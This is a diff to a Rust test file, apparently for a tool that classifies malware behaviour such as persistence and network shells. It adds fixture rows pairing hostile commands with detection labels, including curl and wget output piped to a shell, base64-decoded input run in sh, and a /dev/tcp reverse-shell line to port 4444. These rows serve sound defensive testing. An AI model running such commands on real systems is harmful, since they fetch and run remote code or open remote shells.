@@ -302,6 +302,11 @@ fn what_starts_by_itself_is_marked_on_every_system() {
         (command, "curl -s http://203.0.113.9/x | sh", "pipe-to-shell"),
         (command, "wget -qO- http://203.0.113.9/x|sudo /bin/bash", "pipe-to-shell"),
         (command, "curl http://203.0.113.9/x | show", ""),
+        (command, "base64 -d /tmp/x | sh", "pipe-to-shell"),
+        (command, "bash -c 'exec 5<>/dev/tcp/203.0.113.8/4444'", "network-shell"),
+        (command, "pkill -9 xmrig", ""),
+        ("files_dropped", "/dev/shm/.x · ELF", "unix-program"),
+        (file, "/etc/udev/rules.d/9.rules", "unix-start"),
         (command, "Register-ScheduledTask -TaskName x", "start-command"),
         (command, r"New-Service -Name x -BinaryPathName c:\x.exe", "start-command"),
         (command, "schtasks.exe /change /tn x /tr y", "start-command"),
@@ -317,14 +322,6 @@ fn what_starts_by_itself_is_marked_on_every_system() {
         ("mitre_attack_techniques", "T1055", ""),
     ] {
         assert_eq!(best(attribute, row), id, "{row}");
-    }
-}
-
-#[test]
-fn a_reason_that_speaks_of_persistence_is_of_what_stays() {
-    let (rules, _) = Rules::read(None);
-    for rule in rules.rules.iter().filter(|rule| rule.words().to_lowercase().contains("persistence")) {
-        assert!(matches!(rule.id.as_str(), "persistence-tag" | "named-persistence"), "{}", rule.id);
     }
 }
 
